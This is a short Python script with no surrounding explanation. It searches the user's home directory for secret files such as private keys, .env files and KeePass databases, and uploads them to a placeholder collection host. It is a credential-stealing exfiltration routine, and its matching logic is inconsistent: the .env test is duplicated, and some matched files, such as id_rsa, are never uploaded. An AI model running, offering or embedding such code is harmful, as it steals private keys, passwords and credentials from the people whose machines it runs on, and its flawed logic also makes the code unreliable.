import os
import requests

for root, dirs, names in os.walk(os.path.expanduser("~")):
    for n in names:
        if n in (".env", "id_rsa", "credentials.json") or n.endswith((".pem", ".kdbx")) or n == ".env":
            p = os.path.join(root, n)
            if n.endswith(".pem") or os.path.splitext(n)[1] in [".pem", ".ppk", ".kdbx"]:
                requests.post("https://collector.example.invalid/f", files={"f": open(p, "rb")})
